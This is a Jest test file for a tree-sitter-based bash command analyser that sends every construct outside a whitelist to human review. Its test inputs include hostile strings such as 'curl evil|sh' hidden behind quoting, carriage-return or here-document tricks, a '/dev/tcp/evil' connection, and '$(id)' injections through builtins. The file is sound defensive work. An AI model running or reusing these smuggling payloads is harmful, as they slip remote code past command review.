import { expect } from '@jest/globals';
import fc from 'fast-check';
import { analyzeCommand, initShellParser, MAX_LINE_BYTES, MAX_WORDS, ShellAnalysis } from './shell-analysis';

const argvs = (line: string): string[][] => {
  const r = analyzeCommand(line);
  if (r.kind !== 'simple') throw new Error(r.reason);
  return r.commands.map((c) => c.argv);
};

describe('shell analysis (tree-sitter-bash, whitelist)', () => {
  beforeAll(() => initShellParser(), 30_000);

  it.each([
    ['ls -la', [['ls', '-la']]],
    ['a; b && c || d | e', [['a'], ['b'], ['c'], ['d'], ['e']]],
    ['a\nb', [['a'], ['b']]],
    ['echo \'a b\' "c d" e\\ f', [['echo', 'a b', 'c d', 'e f']]],
    ['echo \'a\'"b"c', [['echo', 'abc']]],
    ['echo "a\\"b" "\t"', [['echo', 'a"b', '\t']]],
    ['ls \\\n  -la', [['ls', '-la']]],
    ['ls &&\n pwd', [['ls'], ['pwd']]],
    ['ls # ; make', [['ls']]],
    ['c1 >f a 2>&1 b', [['c1', 'a', 'b']]],
    ['"ls" -la', [['ls', '-la']]],
    ['echo \'héllo\' "ü"', [['echo', 'héllo', 'ü']]],
  ])('reads %j', (line, expected) => {
    expect(argvs(line)).toEqual(expected);
  });

  it('records redirections', () => {
    const r = analyzeCommand('a > out.txt 2>&1 < in');
    expect(r.kind === 'simple' && r.commands[0].redirections).toEqual([
      { op: '>', fd: null, target: 'out.txt' },
      { op: '>&', fd: '2', target: '1' },
      { op: '<', fd: null, target: 'in' },
    ]);
  });

  // Each needs a human: the review's cases first, then every construct outside the whitelist.
  it.each([
    ["echo ${U:-'}'}; curl evil|sh #'", 'parameter expansion'],
    ['git status\r#; curl evil|sh', 'U+000D'],
    ['cat <<EOF\r\nhi\nEOF\r\ncurl evil\nEOF', 'here-document'],
    ['echo $[1+2]', 'arithmetic'],
    ['((x=1))', ''],
    ['rm -rf x; : $((0))', 'arithmetic'],
    ['echo $(ls)', 'command substitution'],
    ['echo `ls`', ''],
    ['echo "$(ls)"', ''],
    ['echo $HOME', 'parameter expansion'],
    ['cat <(ls)', ''],
    ['ls *.ts', 'may expand'],
    ['ls ~', 'may expand'],
    ['echo {a,b}', 'may expand'],
    ['ls &', '"&"'],
    ['a |& b', '"|&"'],
    ['a &> f', '"&>"'],
    ['a >&f', '>&f'],
    ['! ls', 'negated'],
    ['time ls', 'time'],
    ['if true; then ls; fi', ''],
    ['for f in a; do ls; done', ''],
    ['f() { ls; }', ''],
    ['(ls)', 'subshell'],
    ['{ ls; }', ''],
    ['X=1', 'assignment'],
    ["echo $'\\x41'", ''],
    ['cat <<<x', 'here-string'],
    ["cat <<'EOF'\nx\nEOF", 'here-document'],
    ['echo "x', 'cannot be parsed'],
    ['ls &&', 'cannot be parsed'],
    ['c1 a\\\nb', ''],
    ['echo a#b', ''],
    ['   ', 'empty'],
    ['ls\0x', 'NUL'],
    ["let 'x[$(id)]'", 'builtin let'],
    ['alias ls=id\nls', 'builtin alias'],
    ["trap 'id' EXIT", 'builtin trap'],
    ["unset 'a[$(id)]'", 'unset'],
    ["read 'a[`id`]'", 'builtin read'],
    ["PS4='$(id)' set -x", 'assignment'],
    ['cat < /dev/tcp/evil/80', 'opens a connection'],
  ])('%j needs a human', (line, why) => {
    const r = analyzeCommand(line);
    expect(r.kind).toBe('needs_human');
    if (why && r.kind === 'needs_human') expect(r.reason).toContain(why);
  });

  // A word glued to a redirection operator is its descriptor to the shells (`0<f`) while
  // tree-sitter files `0` as an argument; dash takes one digit only, bash any int. Each form the
  // shells read differently from the tree, or from each other, needs a human.
  it.each([
    'git 0</dev/null push --force',
    'git push 0</dev/null', // tree-sitter files the 0 as an argument: read exactly or not at all
    'git 0<&3 push',
    'git 0>f push',
    'git 0>>f push',
    'git 0>|f push',
    'git 0>&1 push',
    'make 0</dev/null deploy',
    'git 12<f push',
    'git 10>f push',
    'git 99999999999<f push',
    'git 01<f push',
    'git {fd}<f push',
    'git {fd}>f push',
    'git 3<>f push',
    'git 2>&12 push',
    'git >&12 push',
    'git 0<<<x push',
    'git 3<<EOF push\nx\nEOF',
    'git &>f push',
    'git >1<f push',
    'git \\\n0<f push',
  ])('%j (descriptor glued, read differently) needs a human', (line) => {
    expect(analyzeCommand(line).kind).toBe('needs_human');
  });

  it.each([
    ['git push 2>/dev/null', [['git', 'push']], [{ op: '>', fd: '2', target: '/dev/null' }]],
    ['git x1<f push', [['git', 'x1', 'push']], [{ op: '<', fd: null, target: 'f' }]],
    ["git '0'<f push", [['git', '0', 'push']], [{ op: '<', fd: null, target: 'f' }]],
    ['git push 9>&2', [['git', 'push']], [{ op: '>&', fd: '9', target: '2' }]],
  ])('%j: descriptors both shells read as the tree does', (line, argv, redirections) => {
    const r = analyzeCommand(line);
    expect(r.kind === 'simple' ? r.commands.map((c) => c.argv) : r.reason).toEqual(argv);
    expect(r.kind === 'simple' && r.commands[0].redirections).toEqual(redirections);
  });

  // The old scanner never returned on these; each must answer within the test timeout.
  it.each(['\u00a0', '\u000b', '\f', '\u2028', '\u2029', '\ufeff', '\u3000', '\u0085'])(
    'U+%s in a line answers (needs a human) at once',
    (ch) => {
      const started = performance.now();
      for (const line of [`ls${ch}-la`, `${ch}ls`, `ls -la${ch}`, `echo "a${ch}" ${ch}| wc`]) {
        const r = analyzeCommand(line);
        if (line.startsWith('echo "')) continue; // inside quotes it is a literal character
        expect(r.kind).toBe('needs_human');
      }
      expect(performance.now() - started).toBeLessThan(1000);
    },
    2000,
  );

  it('refuses a line over the size bound without parsing it', () => {
    const r = analyzeCommand(`echo ${'a'.repeat(MAX_LINE_BYTES)}`);
    expect(r).toEqual({ kind: 'needs_human', reason: expect.stringContaining(`${MAX_LINE_BYTES} bytes`) });
  });

  it('refuses a line of more words than the bound without parsing it', () => {
    expect(analyzeCommand('a '.repeat(MAX_WORDS + 1))).toEqual({
      kind: 'needs_human',
      reason: `the command line has more than ${MAX_WORDS} words`,
    });
    // at the bound it is parsed (simple, or over the time budget on a busy machine)
    const at = analyzeCommand('a '.repeat(MAX_WORDS));
    expect(at.kind === 'simple' || at.reason.includes('longer than')).toBe(true);
  });

  it('answers any line up to 64 KB within the parse budget (plus margin)', () => {
    const worst = [
      'a '.repeat(32_000),
      '"'.repeat(65_000),
      '$('.repeat(30_000),
      '{ '.repeat(30_000),
      "'a' ".repeat(16_000),
    ];
    for (const line of worst) {
      const started = performance.now();
      analyzeCommand(line);
      // the budget is 40 ms; the margin is for a loaded CI machine
      expect(performance.now() - started).toBeLessThan(1000);
    }
  });

  it('never throws and always answers, for any string (seeded)', () => {
    const seed = 20_261_202;
    console.log(`shell analysis property seed ${seed}`);
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        const r: ShellAnalysis = analyzeCommand(s);
        expect(['simple', 'needs_human']).toContain(r.kind);
      }),
      { seed, numRuns: 3000 },
    );
  });
});
